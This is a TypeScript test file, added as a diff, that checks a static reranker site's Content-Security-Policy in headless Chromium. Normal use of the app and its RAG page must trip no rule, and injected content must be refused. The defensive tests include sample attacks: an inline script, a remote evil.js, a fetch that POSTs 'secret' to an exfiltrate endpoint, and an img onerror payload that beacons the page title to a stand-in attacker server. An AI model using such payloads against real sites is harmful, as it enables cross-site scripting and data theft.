@@ -1,0 +1,176 @@
+/**
+ * The Content-Security-Policy of the built site (scripts/csp.ts), as a static host serves it: the policy only in the
+ * pages' `<meta>`, under a sub-path, cross-origin isolated (so onnxruntime starts its wasm threads). Normal use of the
+ * app and the RAG page trips no rule; an injected script, a fetch to another origin and a hostile document's image and
+ * handler are refused and reported, and a second server, standing for the attacker's, hears nothing.
+ * The dev and preview servers' header: csp-servers.test.ts.
+ */
+import fs from 'node:fs';
+import path from 'node:path';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import type { Browser } from 'playwright-core';
+import { contentSecurityPolicy, metaPolicy } from '../../scripts/csp.ts';
+import { chromiumSkipReason, launchChromium } from './harness.ts';
+import { buildSite, serveSite, type StaticSite } from './site.ts';
+import { openApp, type AppPage } from './app-page.ts';
+import { startOtherOrigin, watchPolicy, type OtherOrigin, type PolicyWatch } from './csp-page.ts';
+
+const skip = chromiumSkipReason();
+
+describe.skipIf(skip !== null)('the Content-Security-Policy of the built site', () => {
+  let dir: string;
+  let site: StaticSite;
+  let other: OtherOrigin;
+  let browser: Browser;
+  let app: AppPage;
+  let csp: PolicyWatch;
+
+  beforeAll(async () => {
+    dir = await buildSite();
+    site = await serveSite(dir, { base: '/demo/', isolate: true });
+    other = await startOtherOrigin();
+    browser = await launchChromium();
+  }, 180_000);
+
+  afterAll(async () => {
+    await browser?.close();
+    await site?.close();
+    await other?.close();
+  });
+
+  afterEach((context) => {
+    if (context.task.result?.state === 'fail') console.log([...(app?.logs.slice(-40) ?? []), ...(csp?.refusals ?? [])].join('\n'));
+  });
+
+  it('index.html and rag.html carry the policy in a <meta>, before any script or stylesheet', () => {
+    for (const name of ['index.html', 'rag.html']) {
+      const html = fs.readFileSync(path.join(dir, name), 'utf8');
+      expect(metaPolicy(html), name).toBe(contentSecurityPolicy());
+      const at = html.indexOf('http-equiv="Content-Security-Policy"');
+      for (const later of ['<script', '<link rel="stylesheet"', '<link rel="modulepreload"']) {
+        if (html.includes(later)) expect(at, `${name}: ${later}`).toBeLessThan(html.indexOf(later));
+      }
+    }
+    // No relaxation beyond what scripts/csp.ts says each source is for.
+    expect(contentSecurityPolicy()).not.toMatch(/unsafe-inline|'unsafe-eval'|blob:|\*(?!\.)/);
+  });
+
+  it('the app under the policy: load (wasm threads), rerank with score bars, sweep, export, a self-hosted URL: nothing refused', async () => {
+    app = await openApp(browser, site.url);
+    csp = await watchPolicy(app.page);
+    await app.page.reload(); // now watched from its first script on
+    const { page: p } = app;
+    expect(await p.evaluate(() => crossOriginIsolated)).toBe(true);
+
+    await app.loadDemo();
+    expect(await p.getByTestId('info-backend').textContent()).toMatch(/^wasm \((\d+) threads?\)$/);
+    const threads = Number(/\((\d+)/.exec((await p.getByTestId('info-backend').textContent())!)![1]);
+    expect(threads).toBe(await p.evaluate(() => navigator.hardwareConcurrency));
+    await app.rerank();
+    // The bars' widths are set through the CSSOM: under style-src 'self' a style attribute would be refused (width auto).
+    const bars = await p.locator('rerank-results .bar').evaluateAll((els) => els.map((e) => {
+      const track = e.parentElement!.getBoundingClientRect().width;
+      return { score: Number(e.closest('li')!.getAttribute('data-score')), share: e.getBoundingClientRect().width / track };
+    }));
+    expect(bars.length).toBeGreaterThan(0);
+    for (const bar of bars) expect(bar.share).toBeCloseTo(bar.score, 2);
+
+    await p.getByTestId('sweep-batch-sizes').fill('1, 2');
+    await p.getByTestId('sweep-pairs').fill('4');
+    await p.getByTestId('sweep-warmup').fill('0');
+    await p.getByTestId('sweep-repeats').fill('1');
+    await p.getByTestId('sweep-button').click();
+    await app.waitStatus('sweep-status', 'done', 120_000);
+    for (const button of ['sweep-csv', 'sweep-json']) {
+      const download = p.waitForEvent('download');
+      await p.getByTestId(button).click();
+      expect(fs.readFileSync((await (await download).path())!, 'utf8'), button).toMatch(/batch/i);
+    }
+
+    // A self-hosted model folder (the site's own origin): typed as a URL, loaded, reranked.
+    await p.getByTestId('source-url').check();
+    await p.getByTestId('model-url').fill(`${site.url}models/tiny-random-bge-reranker/`);
+    await p.getByTestId('load-button').click();
+    await app.waitStatus('model-status', 'ready');
+    await app.rerank();
+
+    expect(await csp.violations()).toEqual([]);
+    expect(csp.refusals).toEqual([]);
+    expect(app.problems.filter((x) => !/Lit is in dev mode/.test(x.text))).toEqual([]);
+  }, 240_000);
+
+  it('the RAG page under the policy: retrieve, rerank, show the top 5: nothing refused', async () => {
+    const page = await browser.newPage();
+    const watch = await watchPolicy(page);
+    try {
+      expect((await page.goto(`${site.url}rag.html`))?.ok()).toBe(true);
+      await page.getByTestId('rag-ask').click();
+      await expect.poll(() => page.getByTestId('rag-hit').count(), { timeout: 60_000 }).toBe(5);
+      expect(await page.getByTestId('rag-error').count()).toBe(0);
+      expect(await watch.violations()).toEqual([]);
+      expect(watch.refusals).toEqual([]);
+    } finally {
+      await page.close();
+    }
+  });
+
+  it('refuses and reports an injected inline script, a script from another origin, and a fetch to another origin', async () => {
+    const page = await browser.newPage();
+    const watch = await watchPolicy(page);
+    try {
+      await page.goto(site.url);
+      const outcome = await page.evaluate(async (otherUrl) => {
+        const w = window as unknown as { __ran?: string };
+        const inline = document.createElement('script');
+        inline.textContent = 'window.__ran = "inline"';
+        document.body.append(inline);
+        const remote = document.createElement('script');
+        const remoteDone = new Promise((resolve) => { remote.onerror = () => resolve('error'); remote.onload = () => resolve('loaded'); });
+        remote.src = `${otherUrl}evil.js`;
+        document.body.append(remote);
+        const fetched = await fetch(`${otherUrl}exfiltrate?q=secret`, { method: 'POST', body: 'secret' }).then(() => 'sent', (e: Error) => e.name);
+        return { ran: w.__ran ?? null, remote: await remoteDone, fetched };
+      }, other.url);
+      expect(outcome).toEqual({ ran: null, remote: 'error', fetched: 'TypeError' });
+      const seen = (await watch.violations()).map((v) => `${v.disposition} ${v.directive} ${v.blocked.replace(/\?.*/, '')}`).sort();
+      expect(seen).toEqual([
+        `enforce connect-src ${other.url}exfiltrate`,
+        `enforce script-src-elem ${other.url}evil.js`,
+        'enforce script-src-elem inline',
+      ]);
+      expect(other.requests).toEqual([]);
+    } finally {
+      await page.close();
+    }
+  });
+
+  it('a document that tries to send itself away: shown as text it does nothing; parsed as HTML its image and handler are refused', async () => {
+    const hostile = [
+      `<img src="${other.url}pixel?doc=1" onerror="fetch('${other.url}beacon?' + document.title)">`,
+      `<iframe src="${other.url}frame"></iframe><link rel="stylesheet" href="${other.url}style.css">`,
+    ];
+    const hostileApp = await openApp(browser, site.url);
+    const watch = await watchPolicy(hostileApp.page);
+    await hostileApp.page.reload();
+    try {
+      await hostileApp.loadDemo();
+      await hostileApp.setDocuments('which document is safe?', hostile);
+      await hostileApp.rerank();
+      expect(await hostileApp.page.getByTestId('results-list').textContent()).toContain(hostile[0]);
+      expect(await watch.violations()).toEqual([]); // as text, nothing to refuse
+      expect(watch.refusals).toEqual([]);
+
+      // A rendering bug that parsed a document as HTML: the policy is the second line of defence.
+      await hostileApp.page.evaluate((html) => {
+        const box = document.createElement('div');
+        box.innerHTML = html.join('');
+        document.body.append(box);
+      }, hostile);
+      await expect.poll(async () => (await watch.violations()).map((v) => v.directive).sort(), { timeout: 10_000 })
+        .toEqual(['frame-src', 'img-src', 'script-src-attr', 'style-src-elem']);
+      expect(other.requests).toEqual([]);
+    } finally {
+      await hostileApp.page.close();
+    }
+  }, 120_000);
+});
